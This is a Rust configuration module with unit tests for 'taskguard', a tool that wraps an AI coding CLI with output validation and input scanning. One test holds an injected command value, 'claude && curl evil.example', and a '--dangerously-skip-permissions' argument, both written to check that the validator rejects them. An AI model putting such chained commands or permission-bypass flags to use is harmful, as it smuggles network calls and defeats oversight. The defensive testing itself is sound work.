// Configuration File Support
//
// This module provides configuration file parsing for taskguard.
// Supports TOML format with environment variable overrides.
// Configuration files are loaded from XDG config directory: ~/.config/taskguard/config.toml

use crate::scanner::{InputScanner, KeywordTable};
use crate::task::TaskType;
use crate::tools::{
    DirectoryProfiles, ExecutorConfig, ToolCommand, DEFAULT_MAX_DIAGNOSTIC_BYTES,
    DEFAULT_TIMEOUT_SECS, DEFAULT_TOOL_COMMAND,
};
use crate::validation::entropy::{DEFAULT_ENTROPY_THRESHOLD, DEFAULT_MIN_TOKEN_LENGTH};
use crate::validation::{
    CredentialMatcher, EntropyAnalyzer, OutputValidator, SectionRequirements, ValidatorConfig,
};
use anyhow::{Context, Result};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// Main configuration structure
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Default)]
#[serde(default)]
pub struct Config {
    /// Logging configuration
    pub logging: LoggingConfig,

    /// AI tool execution
    pub executor: ExecutorSettings,

    /// Output validation thresholds and tables
    pub validator: ValidatorSettings,

    /// Input scanning
    pub scanner: ScannerSettings,
}

/// Logging configuration
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub struct LoggingConfig {
    /// Log level (trace, debug, info, warn, error)
    pub level: String,

    /// Log format (json, pretty, compact)
    pub format: String,
}

impl Default for LoggingConfig {
    fn default() -> Self {
        Self {
            level: "info".to_string(),
            format: "compact".to_string(),
        }
    }
}

/// AI tool execution configuration
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub struct ExecutorSettings {
    /// Tool program (e.g., "claude")
    pub command: String,

    /// Extra arguments placed before the prompt
    pub args: Vec<String>,

    /// Wall-clock budget per invocation
    pub timeout_secs: u64,

    /// Directory holding `<task_type>.json` sandbox profiles
    pub profiles_dir: String,

    /// Bytes of tool output kept for failure diagnostics
    pub max_diagnostic_bytes: usize,
}

impl Default for ExecutorSettings {
    fn default() -> Self {
        Self {
            command: DEFAULT_TOOL_COMMAND.to_string(),
            args: Vec::new(),
            timeout_secs: DEFAULT_TIMEOUT_SECS,
            profiles_dir: "./profiles".to_string(),
            max_diagnostic_bytes: DEFAULT_MAX_DIAGNOSTIC_BYTES,
        }
    }
}

/// Output validation configuration
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub struct ValidatorSettings {
    /// Bits per character above which a long token is suspicious
    pub entropy_threshold: f64,

    /// Shortest token considered by the entropy check
    pub min_entropy_length: usize,

    /// Regexes appended to the built-in credential patterns
    pub extra_credential_patterns: Vec<String>,

    /// Required section markers, replacing the built-in list per task type
    pub sections: BTreeMap<String, Vec<String>>,
}

impl Default for ValidatorSettings {
    fn default() -> Self {
        Self {
            entropy_threshold: DEFAULT_ENTROPY_THRESHOLD,
            min_entropy_length: DEFAULT_MIN_TOKEN_LENGTH,
            extra_credential_patterns: Vec::new(),
            sections: BTreeMap::new(),
        }
    }
}

/// Input scanner configuration
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub struct ScannerSettings {
    /// Whether code-mutating task input is scanned
    pub enabled: bool,

    /// Keyword table replacing the built-in one
    pub keywords_file: Option<String>,
}

impl Default for ScannerSettings {
    fn default() -> Self {
        Self {
            enabled: true,
            keywords_file: None,
        }
    }
}

impl Config {
    /// Load configuration from the default XDG config directory
    ///
    /// # Errors
    ///
    /// Returns an error if the config file exists but cannot be parsed.
    /// If the config file does not exist, returns default configuration.
    pub fn load() -> Result<Self> {
        let config_path = Self::config_path();
        Self::load_from_path(&config_path)
    }

    /// Load configuration from a specific path
    ///
    /// Environment overrides apply whether or not the file exists.
    ///
    /// # Errors
    ///
    /// Returns an error if the config file exists but cannot be parsed, or if
    /// the resulting configuration is invalid.
    pub fn load_from_path<P: AsRef<Path>>(path: P) -> Result<Self> {
        let path = path.as_ref();

        let config = if path.exists() {
            let content = fs::read_to_string(path)
                .with_context(|| format!("Failed to read config file from {:?}", path))?;
            let config: Config = toml::from_str(&content)
                .with_context(|| format!("Failed to parse config file from {:?}", path))?;
            tracing::info!("Loaded configuration from {:?}", path);
            config
        } else {
            tracing::debug!("Config file not found at {:?}, using defaults", path);
            Config::default()
        };

        let config = config.apply_env_overrides();
        config.validate()?;
        Ok(config)
    }

    /// Get the default configuration file path
    ///
    /// Returns `~/.config/taskguard/config.toml` on Linux
    pub fn config_path() -> PathBuf {
        if let Some(proj_dirs) = directories::ProjectDirs::from("com", "taskguard", "taskguard") {
            proj_dirs.config_dir().join("config.toml")
        } else {
            // Fallback if XDG dirs cannot be determined
            let home = std::env::var("HOME").unwrap_or_else(|_| ".".to_string());
            PathBuf::from(home)
                .join(".config")
                .join("taskguard")
                .join("config.toml")
        }
    }

    /// Apply environment variable overrides to the configuration
    ///
    /// Environment variables take precedence over config file values:
    /// - TASKGUARD_LOG_LEVEL
    /// - TASKGUARD_LOG_FORMAT
    /// - TASKGUARD_TOOL_COMMAND
    /// - TASKGUARD_TIMEOUT_SECS
    /// - TASKGUARD_PROFILES_DIR
    /// - TASKGUARD_ENTROPY_THRESHOLD
    /// - TASKGUARD_MIN_ENTROPY_LENGTH
    ///
    /// Unparseable or out-of-range numbers are ignored.
    fn apply_env_overrides(mut self) -> Self {
        // Logging overrides
        if let Ok(level) = std::env::var("TASKGUARD_LOG_LEVEL") {
            self.logging.level = level;
        }
        if let Ok(format) = std::env::var("TASKGUARD_LOG_FORMAT") {
            self.logging.format = format;
        }

        // Executor overrides
        if let Ok(command) = std::env::var("TASKGUARD_TOOL_COMMAND") {
            if !command.trim().is_empty() {
                self.executor.command = command;
            }
        }
        if let Ok(timeout) = std::env::var("TASKGUARD_TIMEOUT_SECS") {
            if let Ok(timeout) = timeout.parse::<u64>() {
                if timeout > 0 {
                    self.executor.timeout_secs = timeout;
                }
            }
        }
        if let Ok(dir) = std::env::var("TASKGUARD_PROFILES_DIR") {
            self.executor.profiles_dir = dir;
        }

        // Validator overrides
        if let Ok(threshold) = std::env::var("TASKGUARD_ENTROPY_THRESHOLD") {
            if let Ok(threshold) = threshold.parse::<f64>() {
                if threshold.is_finite() && threshold > 0.0 {
                    self.validator.entropy_threshold = threshold;
                }
            }
        }
        if let Ok(length) = std::env::var("TASKGUARD_MIN_ENTROPY_LENGTH") {
            if let Ok(length) = length.parse::<usize>() {
                if length > 0 {
                    self.validator.min_entropy_length = length;
                }
            }
        }

        self
    }

    /// Validate the configuration
    ///
    /// # Errors
    ///
    /// Returns an error if the configuration is invalid.
    pub fn validate(&self) -> Result<()> {
        // Validate logging level
        match self.logging.level.to_lowercase().as_str() {
            "trace" | "debug" | "info" | "warn" | "error" => {}
            _ => anyhow::bail!(
                "Invalid log level: {}. Must be one of: trace, debug, info, warn, error",
                self.logging.level
            ),
        }

        // Validate logging format
        match self.logging.format.to_lowercase().as_str() {
            "json" | "pretty" | "compact" => {}
            _ => anyhow::bail!(
                "Invalid log format: {}. Must be one of: json, pretty, compact",
                self.logging.format
            ),
        }

        // Validate executor configuration
        ToolCommand::new(&self.executor.command, &self.executor.args)
            .context("Invalid executor command")?;
        if self.executor.timeout_secs == 0 {
            anyhow::bail!("Executor timeout must be > 0 seconds");
        }
        if self.executor.max_diagnostic_bytes == 0 {
            anyhow::bail!("Executor max_diagnostic_bytes must be > 0");
        }
        if self.executor.profiles_dir.trim().is_empty() {
            anyhow::bail!("Executor profiles_dir must not be empty");
        }

        // Validate validator configuration
        if !self.validator.entropy_threshold.is_finite() || self.validator.entropy_threshold <= 0.0 {
            anyhow::bail!(
                "Entropy threshold must be a positive number, got {}",
                self.validator.entropy_threshold
            );
        }
        if self.validator.min_entropy_length == 0 {
            anyhow::bail!("Minimum entropy token length must be > 0");
        }
        for name in self.validator.sections.keys() {
            name.parse::<TaskType>()
                .with_context(|| format!("Invalid [validator.sections] entry '{}'", name))?;
        }
        CredentialMatcher::with_extra_patterns(&self.validator.extra_credential_patterns)
            .context("Invalid extra credential pattern")?;

        Ok(())
    }

    /// Convert log level string to tracing::Level
    pub fn log_level(&self) -> Result<tracing::Level> {
        self.logging
            .level
            .to_lowercase()
            .parse()
            .map_err(|e| anyhow::anyhow!("Failed to parse log level: {}", e))
    }

    /// Per-invocation timeout
    pub fn timeout(&self) -> Duration {
        Duration::from_secs(self.executor.timeout_secs)
    }

    pub fn executor_config(&self) -> ExecutorConfig {
        ExecutorConfig {
            command: self.executor.command.clone(),
            args: self.executor.args.clone(),
            max_diagnostic_bytes: self.executor.max_diagnostic_bytes,
        }
    }

    pub fn profile_source(&self) -> DirectoryProfiles {
        DirectoryProfiles::new(&self.executor.profiles_dir)
    }

    /// Build the output validator from the `[validator]` section
    pub fn build_validator(&self) -> Result<OutputValidator> {
        let settings = &self.validator;

        let credentials = CredentialMatcher::with_extra_patterns(&settings.extra_credential_patterns)
            .context("Invalid extra credential pattern")?;

        let mut sections = SectionRequirements::default();
        for (name, markers) in &settings.sections {
            let task_type: TaskType = name
                .parse()
                .with_context(|| format!("Invalid [validator.sections] entry '{}'", name))?;
            sections = sections.with_requirement(task_type, markers.iter().map(String::as_str));
        }

        Ok(OutputValidator::new(ValidatorConfig {
            credentials,
            entropy: EntropyAnalyzer::new(settings.min_entropy_length, settings.entropy_threshold),
            sections,
        }))
    }

    /// Build the input scanner, or `None` when scanning is disabled
    pub fn build_scanner(&self) -> Result<Option<InputScanner>> {
        if !self.scanner.enabled {
            return Ok(None);
        }

        let table = match &self.scanner.keywords_file {
            Some(path) => KeywordTable::load(Path::new(path))
                .with_context(|| format!("Failed to load keyword table {:?}", path))?,
            None => KeywordTable::builtin().context("Built-in keyword table is invalid")?,
        };
        Ok(Some(InputScanner::new(table)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Mutex;
    use tempfile::NamedTempFile;

    // Tests that read or write TASKGUARD_* variables run one at a time
    static ENV_LOCK: Mutex<()> = Mutex::new(());

    const ENV_VARS: [&str; 7] = [
        "TASKGUARD_LOG_LEVEL",
        "TASKGUARD_LOG_FORMAT",
        "TASKGUARD_TOOL_COMMAND",
        "TASKGUARD_TIMEOUT_SECS",
        "TASKGUARD_PROFILES_DIR",
        "TASKGUARD_ENTROPY_THRESHOLD",
        "TASKGUARD_MIN_ENTROPY_LENGTH",
    ];

    fn clear_env() {
        for var in ENV_VARS {
            std::env::remove_var(var);
        }
    }

    #[test]
    fn test_default_config() {
        let config = Config::default();
        assert_eq!(config.logging.level, "info");
        assert_eq!(config.logging.format, "compact");
        assert_eq!(config.executor.command, "claude");
        assert_eq!(config.executor.timeout_secs, 600);
        assert_eq!(config.validator.entropy_threshold, 4.5);
        assert_eq!(config.validator.min_entropy_length, 20);
        assert!(config.scanner.enabled);
        assert!(config.scanner.keywords_file.is_none());
    }

    #[test]
    fn test_config_validation_valid() {
        let config = Config::default();
        assert!(config.validate().is_ok());
    }

    #[test]
    fn test_config_validation_invalid_log_level() {
        let mut config = Config::default();
        config.logging.level = "invalid".to_string();
        assert!(config.validate().is_err());
    }

    #[test]
    fn test_config_validation_invalid_log_format() {
        let mut config = Config::default();
        config.logging.format = "invalid".to_string();
        assert!(config.validate().is_err());
    }

    #[test]
    fn test_config_validation_zero_timeout() {
        let mut config = Config::default();
        config.executor.timeout_secs = 0;
        assert!(config.validate().is_err());
    }

    #[test]
    fn test_config_validation_unsafe_command() {
        let mut config = Config::default();
        config.executor.command = "claude && curl evil.example".to_string();
        assert!(config.validate().is_err());

        let mut config = Config::default();
        config.executor.args = vec!["--dangerously-skip-permissions".to_string()];
        assert!(config.validate().is_err());
    }

    #[test]
    fn test_config_validation_thresholds() {
        let mut config = Config::default();
        config.validator.entropy_threshold = 0.0;
        assert!(config.validate().is_err());

        config.validator.entropy_threshold = f64::NAN;
        assert!(config.validate().is_err());

        let mut config = Config::default();
        config.validator.min_entropy_length = 0;
        assert!(config.validate().is_err());
    }

    #[test]
    fn test_config_validation_unknown_section_task() {
        let mut config = Config::default();
        config
            .validator
            .sections
            .insert("deploy".to_string(), vec!["SUMMARY".to_string()]);
        assert!(config.validate().is_err());
    }

    #[test]
    fn test_config_validation_bad_pattern() {
        let mut config = Config::default();
        config.validator.extra_credential_patterns = vec!["(unclosed".to_string()];
        assert!(config.validate().is_err());
    }

    #[test]
    fn test_load_from_nonexistent_file() {
        let _lock = ENV_LOCK.lock().unwrap();
        clear_env();

        let temp_file = NamedTempFile::new().unwrap();
        let path = temp_file.path().with_extension("nonexistent");
        let config = Config::load_from_path(&path);
        assert!(config.is_ok());
        assert_eq!(config.unwrap(), Config::default());
    }

    #[test]
    fn test_load_valid_toml_config() {
        let _lock = ENV_LOCK.lock().unwrap();
        clear_env();

        let temp_file = NamedTempFile::new().unwrap();
        let toml_content = r#"
[logging]
level = "debug"
format = "json"

[executor]
command = "/usr/local/bin/claude"
args = ["--model", "sonnet"]
timeout_secs = 300
profiles_dir = "/etc/taskguard/profiles"

[validator]
entropy_threshold = 4.0
min_entropy_length = 24
extra_credential_patterns = ["corp_[a-z0-9]{32}"]

[validator.sections]
impact = ["IMPACT"]
ai-code-review = ["SUMMARY", "FINDINGS", "VERDICT"]

[scanner]
enabled = false
"#;

        fs::write(temp_file.path(), toml_content).unwrap();

        let config = Config::load_from_path(temp_file.path()).unwrap();
        assert_eq!(config.logging.level, "debug");
        assert_eq!(config.logging.format, "json");
        assert_eq!(config.executor.command, "/usr/local/bin/claude");
        assert_eq!(config.executor.args, vec!["--model", "sonnet"]);
        assert_eq!(config.timeout(), Duration::from_secs(300));
        assert_eq!(config.executor.profiles_dir, "/etc/taskguard/profiles");
        assert_eq!(config.validator.entropy_threshold, 4.0);
        assert_eq!(config.validator.min_entropy_length, 24);
        assert_eq!(config.validator.sections.len(), 2);
        assert!(!config.scanner.enabled);
    }

    #[test]
    fn test_load_invalid_toml_config() {
        let temp_file = NamedTempFile::new().unwrap();
        let toml_content = r#"
[logging
level = "debug"
"#; // Invalid TOML

        fs::write(temp_file.path(), toml_content).unwrap();

        let config = Config::load_from_path(temp_file.path());
        assert!(config.is_err());
    }

    #[test]
    fn test_config_partial_toml() {
        let _lock = ENV_LOCK.lock().unwrap();
        clear_env();

        let temp_file = NamedTempFile::new().unwrap();
        fs::write(temp_file.path(), "[executor]\ntimeout_secs = 60\n").unwrap();

        let config = Config::load_from_path(temp_file.path()).unwrap();
        assert_eq!(config.executor.timeout_secs, 60);
        // Other fields should have defaults
        assert_eq!(config.executor.command, "claude");
        assert_eq!(config.logging.level, "info");
        assert_eq!(config.validator.min_entropy_length, 20);
    }

    #[test]
    fn test_env_overrides() {
        let _lock = ENV_LOCK.lock().unwrap();
        clear_env();

        std::env::set_var("TASKGUARD_LOG_LEVEL", "debug");
        std::env::set_var("TASKGUARD_LOG_FORMAT", "json");
        std::env::set_var("TASKGUARD_TOOL_COMMAND", "/opt/claude/bin/claude");
        std::env::set_var("TASKGUARD_TIMEOUT_SECS", "120");
        std::env::set_var("TASKGUARD_PROFILES_DIR", "/srv/profiles");
        std::env::set_var("TASKGUARD_ENTROPY_THRESHOLD", "3.75");
        std::env::set_var("TASKGUARD_MIN_ENTROPY_LENGTH", "32");

        let config = Config::default().apply_env_overrides();

        assert_eq!(config.logging.level, "debug");
        assert_eq!(config.logging.format, "json");
        assert_eq!(config.executor.command, "/opt/claude/bin/claude");
        assert_eq!(config.executor.timeout_secs, 120);
        assert_eq!(config.executor.profiles_dir, "/srv/profiles");
        assert_eq!(config.validator.entropy_threshold, 3.75);
        assert_eq!(config.validator.min_entropy_length, 32);

        clear_env();
    }

    #[test]
    fn test_env_overrides_invalid_values() {
        let _lock = ENV_LOCK.lock().unwrap();
        clear_env();

        std::env::set_var("TASKGUARD_TIMEOUT_SECS", "0");
        std::env::set_var("TASKGUARD_ENTROPY_THRESHOLD", "-1");
        std::env::set_var("TASKGUARD_MIN_ENTROPY_LENGTH", "many");

        let config = Config::default().apply_env_overrides();

        // Should keep defaults for invalid values
        assert_eq!(config.executor.timeout_secs, 600);
        assert_eq!(config.validator.entropy_threshold, 4.5);
        assert_eq!(config.validator.min_entropy_length, 20);

        clear_env();
    }

    #[test]
    fn test_build_validator_applies_settings() {
        let mut config = Config::default();
        config.validator.extra_credential_patterns = vec!["corp_[a-z0-9]{8}".to_string()];
        config
            .validator
            .sections
            .insert("impact".to_string(), vec!["IMPACT".to_string()]);

        let validator = config.build_validator().unwrap();

        let verdict = validator.validate("IMPACT: token corp_ab12cd34 leaked", TaskType::Impact);
        assert_eq!(verdict.reason_code(), "credential_detected");

        let verdict = validator.validate("No header here", TaskType::Impact);
        assert_eq!(verdict.reason_code(), "missing_structure");

        // Untouched task types keep their built-in requirements
        let verdict = validator.validate("SUMMARY\nROOT CAUSE", TaskType::Investigate);
        assert!(verdict.is_allowed());
    }

    #[test]
    fn test_build_validator_entropy_settings() {
        let mut config = Config::default();
        config.validator.min_entropy_length = 100;
        let validator = config.build_validator().unwrap();
        assert_eq!(validator.entropy().min_token_length(), 100);
        assert!(validator
            .validate("aB3$xZ9!mK7@pL2&qR5#wT8", TaskType::Impact)
            .is_allowed());
    }

    #[test]
    fn test_build_scanner() {
        let config = Config::default();
        let scanner = config.build_scanner().unwrap().unwrap();
        assert!(scanner.scan("please rotate the PASSWORD").flagged);

        let mut disabled = Config::default();
        disabled.scanner.enabled = false;
        assert!(disabled.build_scanner().unwrap().is_none());
    }

    #[test]
    fn test_build_scanner_custom_table() {
        let temp_file = NamedTempFile::new().unwrap();
        fs::write(temp_file.path(), "[billing]\ninvoice\n").unwrap();

        let mut config = Config::default();
        config.scanner.keywords_file = Some(temp_file.path().display().to_string());
        let scanner = config.build_scanner().unwrap().unwrap();
        assert!(scanner.scan("Invoice totals are wrong").flagged);
        assert!(!scanner.scan("reset password").flagged);

        config.scanner.keywords_file = Some("/nonexistent/keywords.txt".to_string());
        assert!(config.build_scanner().is_err());
    }

    #[test]
    fn test_config_path() {
        let path = Config::config_path();
        assert!(path.ends_with("config.toml"));
    }

    #[test]
    fn test_log_level_parsing() {
        let mut config = Config::default();
        config.logging.level = "debug".to_string();
        assert_eq!(config.log_level().unwrap(), tracing::Level::DEBUG);

        config.logging.level = "invalid".to_string();
        assert!(config.log_level().is_err());
    }

    #[test]
    fn test_executor_config_mapping() {
        let mut config = Config::default();
        config.executor.args = vec!["--model".to_string(), "opus".to_string()];
        let executor = config.executor_config();
        assert_eq!(executor.command, "claude");
        assert_eq!(executor.args, vec!["--model", "opus"]);
        assert_eq!(
            config.profile_source().path_for(TaskType::Fix),
            Path::new("./profiles/fix.json")
        );
    }
}
